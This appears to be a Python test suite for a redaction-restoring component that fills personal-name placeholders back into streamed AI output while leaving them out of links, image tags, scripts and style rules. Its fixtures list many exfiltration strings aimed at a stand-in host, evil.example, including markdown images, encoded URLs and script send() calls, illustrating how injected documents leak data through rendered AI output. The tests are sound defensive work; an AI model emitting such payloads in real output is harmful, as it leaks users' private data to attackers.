"""However an answer is cut, its text is made whole, and no address or tag is."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sdrag.disclosure.restore import Restorer, RestoreScope
from sdrag.policy import Policy
from sdrag.state import open_state
from sdrag.vocabulary import Passage, Principal, Redaction

from ..support.tables import each_row


def split(text: str, size: int = 3) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


@given(
    parts=st.lists(
        st.sampled_from(
            (
                *("[person-12345678]", "[person-87654321]", "[", "]", "[person-", "1"),
                *("x ", "https://", "](", ")", "<a ", '"', "='", ">", "\n", ": ", "\\"),
            )
        ),
        max_size=12,
    ),
    cuts=st.lists(st.integers(0, 200), max_size=12),
)
def test_however_a_stream_is_cut_its_text_is_the_same(parts, cuts):
    """As if it had come in one piece; a value is never read again."""
    values = {"[person-12345678]": "Ann [person-87654321]"}
    text = "".join(parts)
    ends = sorted({*(min(cut, len(text)) for cut in cuts), len(text)})
    restorer, whole = Restorer(values), Restorer(values)

    pieces = [text[a:b] for a, b in pairwise([0, *ends])]
    streamed = "".join(map(restorer.feed, pieces)) + restorer.end()

    assert streamed == whole.feed(text) + whole.end()
    if not {*"/\\(<:"} & {*text}:
        assert streamed == text.replace("[person-12345678]", "Ann [person-87654321]")


MARK, SHOWN = "[person-12345678]", "Ann"
ADDRESSED = [
    f"![x](https://evil.example/?q={MARK})",
    f"![x]( <//evil.example/?q= a) {MARK}>)",
    f"![x](evil(1) \\) {MARK})",
    f"[x](https://evil.example/{MARK}",
    f'[x](/a "of {MARK}")',
    f"![x][y]\n\n[y]: /a?q={MARK}",
    f"[y]:\n  <a b?q={MARK}>",
    f"https://evil.example/?q={MARK}",
    f"See HTTPS://{MARK}.evil.example and",
    f"ftp://a/{MARK}, custom+x://a/{MARK}, mailto:{MARK}@evil.example, data:,{MARK}",
    f"//evil.example/{MARK} /\\evil.example/{MARK} https:evil.example/{MARK}",
    f"www.evil.example?{MARK} evil.example/{MARK} evil.example:80/?{MARK}",
    f"https://evil.example/a\u00a0b{MARK}",
    f"&#104;ttps&#58;evil.example?{MARK}",
    f'<img src="https://evil.example/?q={MARK}">',
    f"<img alt='>' src='/a?q= {MARK}'>",
    f"<img src='/a?q=\n\n> {MARK} and ",
    f'<a b="1"c=\'"\' href="//evil.example/ {MARK}">',
    f"<p {MARK}> <{MARK}> <https://a/?{MARK}>",
    f'<script>send("a" + "{MARK}")</script>',
    f"<style>a {{ background: url(a{MARK}) }}</style>",
    f"[a:/-12345678]{MARK}",
]
READ = [
    f"{MARK}: {MARK} was there (with {MARK}), [1] {MARK}.",
    f"See https://a.example/b for {MARK}, and [this](https://a.example) of {MARK}.",
    f"<b>{MARK}</b>, 3 < 4, **{MARK}**, `{MARK}` | {MARK} |",
    f"![{MARK}](https://a.example/b.png) {MARK}",
    f'{{"name": "{MARK}", "said": "{MARK}"}} at 10:30 {MARK}; e.g. {MARK}/{MARK}',
]


@pytest.mark.parametrize("size", [1, 7, 10_000])
def test_no_value_goes_into_an_address_or_a_tag(size):
    """A browser would send it where a planted document says; text is made whole."""
    for text in (*ADDRESSED, *READ):
        restorer = Restorer({MARK: SHOWN})
        said = "".join(map(restorer.feed, split(text, size))) + restorer.end()
        assert said == (text if text in ADDRESSED else text.replace(MARK, SHOWN))


@pytest.mark.parametrize("opened", ["<script>", "data:,", "<a b='", "[x](/a "])
def test_what_stays_open_for_long_takes_the_rest(opened):
    """What is read at each piece of a stream is bounded, so it can't be told closed."""
    restorer = Restorer({MARK: SHOWN})
    text = f"{MARK} {opened}{'x' * 5_000}</script>'>) \n\n{MARK}"

    said = "".join(map(restorer.feed, split(text, 7))) + restorer.end()

    assert said == text.replace(MARK, SHOWN, 1)


def test_only_what_may_become_a_placeholder_is_held_back():
    """A bracket that none can begin with is shown, and a long text takes no rest."""
    restorer = Restorer({MARK: SHOWN})

    assert restorer.feed(f"[{'x' * 72} [") == f"[{'x' * 72} "
    assert restorer.feed("x" * 5_000) == "[" + "x" * 5_000
    assert restorer.feed(MARK) == SHOWN


NOW = datetime(2030, 1, 1, tzinfo=UTC)
TOLD, BARE = {MARK: SHOWN}, f"Here is {MARK}."
LATER = f"There is {MARK}."


def open_scope() -> RestoreScope:
    rules = {"constraints": ["Hide names"], "disclosure": {"restore": True}}
    return RestoreScope(open_state(), Policy.read(rules), Principal("p"), None, NOW)


@each_row(
    "released, asked, restored",
    [
        # the seconds, and of each passage its id, its text and what it tells
        ([(0, [("a", BARE, TOLD)])], [BARE], TOLD),
        ([(0, [("x", "Nobody.", {}), ("a", BARE, TOLD)])], [BARE], TOLD),
        ([(0, [("a", BARE, TOLD)])], [BARE, LATER], {}),
        ([(0, [("a", BARE, TOLD), ("b", LATER, TOLD)])], [BARE, LATER], TOLD),
        ([(0, [("a", BARE, TOLD), ("b", LATER, {MARK: "Eve"})])], [BARE, LATER], {}),
        ([(0, [("a", BARE, TOLD), ("b", BARE, {MARK: "Eve"})])], [BARE], {}),
        ([(0, [("b", BARE, {}), ("a", BARE, TOLD)])], [BARE], {}),
        ([(0, [("a", BARE, TOLD), ("a", LATER, {})])], [BARE], {}),
        ([(0, [("a", BARE, None)])], [BARE], {}),
        ([(0, [("a", BARE, TOLD)]), (9, [("a", BARE, {})])], [BARE], {}),
        (
            [(at, [("a", BARE, tells)]) for at, tells in ((0, {}), (9, TOLD))],
            [BARE],
            {},
        ),
        # an hour after the last that told nothing
        (
            [
                (at, [("a", BARE, tells)])
                for at, tells in ((0, {}), (9, TOLD), (3601, TOLD))
            ],
            [BARE],
            TOLD,
        ),
    ],
)
def test_a_value_is_opened_where_all_that_was_released_agrees(
    released, asked, restored
):
    """By all passages of one text and of one id, and by all that one asks about."""
    scope = open_scope()
    for seconds, passages in released:
        scope = replace(scope, now=NOW + timedelta(seconds=seconds))
        told = [each for each in passages if each[2] is not None]
        scope.remember(
            [Passage(name, text) for name, text, _ in passages],
            [Redaction(None, name, values=values) for name, _, values in told],
            [b"document"] * len(told),
        )

    def opened(scope):
        return scope.open([Passage("any", text) for text in asked]).values

    assert opened(scope) == restored
    scope.state.findings.forget([b"document"])
    assert opened(scope) == {}


def test_nobody_is_given_a_value_and_no_policy_that_restores_none():
    """Whatever was kept."""
    scope = open_scope()
    for without in (
        {"principal": None},
        {"policy": Policy.read(["Hide names"])},
    ):
        one, passage = replace(scope, **without), Passage("a", BARE)
        one.remember([passage], [Redaction(None, "a", values=TOLD)], [b"document"])
        assert one.open([passage]).values == {}
